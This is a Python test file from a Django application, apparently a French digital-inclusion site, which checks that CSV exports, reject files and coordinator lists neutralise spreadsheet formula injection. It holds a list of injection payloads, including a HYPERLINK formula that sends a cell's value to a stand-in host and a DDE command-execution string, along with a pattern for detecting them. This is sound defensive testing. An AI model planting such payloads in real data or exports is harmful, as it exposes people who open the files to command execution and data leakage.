"""A formula typed in a name never runs in a coordinator's spreadsheet."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from inclusion.people.models import Role
from inclusion.places import exports
from inclusion.places.imports.reading import RawRow
from inclusion.places.imports.rejects import Rejects
from inclusion.territories import spreadsheets
from tests.factories import make_access_point, make_member, make_organisation

ROOT = Path(__file__).resolve().parents[2]
COMMANDS = (
    "1+1", "SUM(A1:A9)", "cmd|'/c calc'!A0", 'HYPERLINK("http://x.test?"&A1,"ici")',
    'WEBSERVICE("http://x.test")', 'IMPORTXML("http://x.test","//a")', "DDE(1;2;3)", "A1",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t=")
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
# OWASP, « CSV injection »: what a cell of a spreadsheet may not begin with; a number may.
RUNS = re.compile(r"[=+\-@\t\r\n\0＝＋－＠]")  # noqa: RUF001
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def cells_that_run(text: str, delimiter: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    cells = [cell for row in rows for cell in row]
    return [cell for cell in cells if RUNS.match(cell) and not NUMBER.fullmatch(cell)]


def test_there_are_forty_payloads_and_the_check_sees_them():
    assert len(set(PAYLOADS)) == 40
    assert len(cells_that_run("\n".join(f'"{p.replace(chr(34), chr(34) * 2)}"' for p in PAYLOADS),
                              ";")) == 40  # fmt: skip


@pytest.mark.parametrize("payload", [*PAYLOADS, "\r=1", "\n=1", "\0=1", "＝1+1", "＠x", "'=1"])  # noqa: RUF001
def test_the_one_writer_of_tables_lets_no_formula_through_and_loses_nothing(payload):
    text = spreadsheets.csv_answer("a", ["Nom"], [[payload]]).content.decode()
    assert cells_that_run(text, ";") == []
    assert spreadsheets.plain_cell(spreadsheets.safe_cell(payload)) == payload


def test_every_file_goes_through_that_writer():
    """A new export that writes cells by itself fails here."""
    sources = [
        path
        for room in ("inclusion", "vouchers", "cms", "notifications", "site/passerelle")
        for path in (ROOT / room).rglob("*.py")
    ]
    writers = [path for path in sources if re.search(r"csv\.(Dict)?[wW]riter", path.read_text())]
    assert writers
    assert [path.name for path in writers if "safe_cell" not in path.read_text()] == []


@pytest.mark.django_db
@pytest.mark.parametrize("start", STARTS)
def test_places_in_the_national_standard_run_nothing(soissons, start):
    for number, command in enumerate(COMMANDS):
        word = (start + command)[:40]
        make_access_point(soissons, word, address=word, summary=word, slug=f"p{number}")
    file = io.StringIO(newline="")
    assert exports.write_csv(exports.published(soissons), file) == len(COMMANDS)
    assert cells_that_run(file.getvalue(), ",") == []


def test_refused_rows_run_nothing(tmp_path):
    with Rejects(tmp_path / "rejets.csv", ("nom",)) as rejects:
        for number, payload in enumerate(PAYLOADS):
            rejects.add(RawRow(number, {"nom": payload}), "motif")
    assert cells_that_run((tmp_path / "rejets.csv").read_text("utf-8-sig"), ",") == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "/espace/reglages/membres/liste.csv",
        "/espace/reglages/structures/liste.csv",
        "/espace/lieux/liste.csv",
    ],
)
def test_the_lists_of_a_coordinator_run_nothing(soissons, path):
    for payload in PAYLOADS:
        make_member(soissons, Role.MEDIATOR, "Zoé", organisation=None)
        make_organisation(soissons, payload)
        make_access_point(soissons, payload[:60])
    for user, payload in zip(
        type(make_member(soissons, Role.EDITOR)).objects.all(), PAYLOADS, strict=False
    ):
        user.first_name = user.last_name = payload[:80]
        user.save()
    client = Client()
    client.force_login(make_member(soissons, Role.COORDINATOR, "Claire"))
    answer = client.get(path, follow=True)
    text = answer.content.decode()
    assert answer["Content-Type"].startswith("text/csv"), answer.redirect_chain
    assert "HYPERLINK" in text
    assert cells_that_run(text, ";") == []
